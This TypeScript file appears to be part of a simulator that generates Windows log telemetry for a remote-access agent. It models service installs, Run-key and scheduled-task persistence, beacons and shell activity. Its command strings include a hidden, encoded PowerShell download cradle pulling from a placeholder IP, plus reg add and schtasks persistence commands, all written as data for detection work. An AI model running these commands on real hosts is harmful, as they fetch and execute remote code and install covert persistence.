// A remote-access agent on Windows as Sysmon, Security and System logs see it.
import type { HostActivity } from '../activity.ts';
import { type AgentOps, beaconRelay } from './agent.ts';
import type { ToolOnPlatform } from './tools.ts';

const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const MS = { product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation' };

/** A stable-looking base64 blob for encoded PowerShell (UTF-16LE of a download cradle). */
function encodedCommand(seed: string): string {
  const s = `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.${seed.length % 200}/a')`;
  return Buffer.from(s, 'utf16le').toString('base64');
}

export function windowsAgent(act: HostActivity, tool: ToolOnPlatform, binary: string): AgentOps {
  const { host } = act;
  const portablePath = () => `C:\\Users\\${host.user}\\Downloads\\${tool.portableName}`;
  const opts = (user?: string) => ({
    meta: tool.meta,
    binary,
    user,
    integrity: user === SYSTEM ? ('System' as const) : undefined,
  });
  const ops: AgentOps = {
    tool,
    act,
    portablePath,
    startPortable(t, path = portablePath()) {
      return act.spawn(t, act.shell, path, `"${path}"`, {
        ...opts(),
        cwd: path.slice(0, path.lastIndexOf('\\') + 1),
      });
    },
    startInstalled(t, path = tool.installed) {
      return act.spawn(t, act.services, path, `"${path}" ${tool.serviceArgs}`.trim(), {
        ...opts(SYSTEM),
        cwd: 'C:\\Windows\\system32\\',
      });
    },
    install(t, proc, start, path = tool.installed, name = tool.persistName) {
      act.file(t, proc, path);
      act.service(t + 1500, proc, name, `"${path}" ${tool.serviceArgs}`.trim());
      return start ? ops.startInstalled(t + 3000, path) : undefined;
    },
    autostart(t, proc, path, name) {
      const reg = act.spawn(
        t,
        proc,
        'C:\\Windows\\System32\\reg.exe',
        `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /t REG_SZ /d "${path}" /f`,
        {
          meta: {
            originalFileName: 'reg.exe',
            description: 'Registry Console Tool',
            fileVersion: '10.0.19041.1',
            ...MS,
          },
        },
      );
      act.reg(
        t + 200,
        reg,
        `HKU\\S-1-5-21-1004336348-1177238915-682003330-${1000 + host.index}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${name}`,
        `"${path}"`,
      );
      act.end(t + 400, reg);
    },
    scheduledTask(t, proc, path, name) {
      const cmd = `schtasks /create /tn "${name}" /tr "${path}" /sc onlogon /rl highest /f`;
      const st = act.spawn(t, proc, 'C:\\Windows\\System32\\schtasks.exe', cmd, {
        meta: {
          originalFileName: 'schtasks.exe',
          description: 'Task Scheduler Configuration Tool',
          fileVersion: '10.0.19041.1',
          ...MS,
        },
      });
      act.task(t + 300, st, name, path, '');
      act.end(t + 600, st);
    },
    session(t, proc, relay, durationSec, clientHeavy) {
      const out = clientHeavy ? 40_000_000 + act.rng.int(0, 9_000_000) : 300_000;
      const inn = clientHeavy ? 900_000 + act.rng.int(0, 90_000) : 2_000_000;
      act.connect(t, proc, relay, relay.port, durationSec, out, inn);
    },
    beacon(t, proc, relay, n, intervalSec) {
      beaconRelay(act, t, proc, relay, n, intervalSec, true);
    },
    shell(t, proc, suspicious) {
      if (suspicious) {
        const ps = act.spawn(
          t,
          proc,
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          `powershell.exe -nop -w hidden -enc ${encodedCommand(host.name)}`,
          {
            meta: {
              originalFileName: 'PowerShell.EXE',
              description: 'Windows PowerShell',
              fileVersion: '10.0.19041.3996',
              ...MS,
            },
          },
        );
        const who = act.spawn(
          t + 4000,
          ps,
          'C:\\Windows\\System32\\whoami.exe',
          '"C:\\Windows\\system32\\whoami.exe" /all',
          {
            meta: {
              originalFileName: 'whoami.exe',
              description: 'whoami - displays logged on user information',
              fileVersion: '10.0.19041.1',
              ...MS,
            },
          },
        );
        act.end(t + 4500, who);
        act.end(t + 60_000, ps);
      } else {
        const cmd = act.spawn(t, proc, 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe"', {
          meta: {
            originalFileName: 'Cmd.Exe',
            description: 'Windows Command Processor',
            fileVersion: '10.0.19041.4355',
            ...MS,
          },
        });
        const ip = act.spawn(t + 9000, cmd, 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', {
          meta: {
            originalFileName: 'ipconfig.exe',
            description: 'IP Configuration Utility',
            fileVersion: '10.0.19041.1',
            ...MS,
          },
        });
        act.end(t + 9500, ip);
        act.end(t + 120_000, cmd);
      }
    },
  };
  return ops;
}
